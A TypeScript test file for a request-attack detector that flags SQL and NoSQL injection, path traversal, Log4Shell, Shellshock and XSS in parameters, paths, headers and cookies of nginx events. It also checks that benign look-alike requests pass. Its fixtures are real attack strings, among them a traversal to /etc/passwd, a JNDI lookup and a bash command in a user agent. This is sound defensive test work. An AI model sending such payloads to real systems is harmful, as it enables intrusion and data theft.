// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are values as they are sent
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { httpEvent } from '../events/ocsf.ts';
import { attacksInRequest } from './attacks-in-request.ts';

function request(path: string, query?: string, more: { readonly agent?: string; readonly referrer?: string } = {}) {
  const target = query === undefined ? path : `${path}?${query}`;
  return httpEvent({ time: 0, product: 'nginx', method: 'GET', target, path, query, status: 200, ...more });
}

describe('attacks in a request', () => {
  it('are told with the parameter that they stand in', () => {
    const [attack, ...rest] = attacksInRequest(request('/shop', 'page=2&id=1%27%20or%20%271%27=%271&sort=name'));
    assert.deepEqual([attack?.kind, attack?.where, attack?.name], ['sql-injection', 'query', 'id']);
    assert.deepEqual(rest, []);
  });

  it('are looked for in each parameter apart: two halves are no whole', () => {
    assert.deepEqual(attacksInRequest(request('/shop', "a=x'&b=or&c=1=1&d=1 union&e=select 1")), []);
  });

  it('are found in the names of parameters, and such a name is not told', () => {
    const [attack] = attacksInRequest(request('/login', 'user[$ne]=x'));
    assert.deepEqual([attack?.kind, attack?.name], ['nosql-injection', undefined]);
  });

  it('are found in the path, in the name of the browser, in where it comes from, and in cookies', () => {
    const whereOf = (event: Parameters<typeof attacksInRequest>[0]) =>
      attacksInRequest(event).map(({ where }) => where);
    assert.deepEqual(whereOf(request('/a/..%2f..%2f..%2fetc/passwd')), ['path']);
    assert.deepEqual(whereOf(request('/', undefined, { agent: '${jndi:ldap://x.example/a}' })), ['header']);
    assert.deepEqual(whereOf(request('/', undefined, { agent: '() { :;}; /bin/bash -c "id"' })), ['header']);
    assert.deepEqual(whereOf(request('/', undefined, { referrer: 'https://x.example/?q=<script>alert(1)</script>' })), [
      'header',
    ]);
    const headers = [{ name: 'Cookie', value: "a=1; session=x' or '1'='1" }];
    assert.deepEqual(whereOf({ http_request: { http_headers: headers } }), ['cookie']);
  });

  it('are not in what browsers and shops send every day', () => {
    const agent =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
    const referrer = "https://www.example.org/search?q=o'brien+and+sons&utm_source=a%7Cb";
    for (const [path, query] of [
      ['/search', 'q=select+a+plan&filter=(a+or+b)&sort=-price'],
      ['/images/Insert%20vs%20Crop.png', undefined],
      ['/cb', 'next=https%3A%2F%2Fexample.org%2Fa%3Fb%3D1%26c%3D2&state=eyJhIjoxfQ%3D%3D'],
      ['/api', 'filter=%7B%22page%22%3A1%2C%22names%22%3A%5B%22O%27Brien%22%5D%7D'],
      ['/people', "name=D'Angelo-O'Neill&street=Rue+de+l'%C3%89glise%3B+75001"],
    ] as const) {
      assert.deepEqual(attacksInRequest(request(path, query, { agent, referrer })), [], path);
    }
  });

  it('are none in an event of another kind', () => {
    assert.deepEqual(attacksInRequest({ class_uid: 6005, query: "select 1 or '1'='1'" }), []);
  });

  it('are read out of anything without a throw', () => {
    fc.assert(
      fc.property(fc.anything(), fc.string(), fc.string(), (anything, path, query) => {
        attacksInRequest({ http_request: anything });
        attacksInRequest({ http_request: { url: anything, http_headers: [anything] } });
        attacksInRequest(request(path, query));
      }),
      { numRuns: 300 },
    );
  });
});
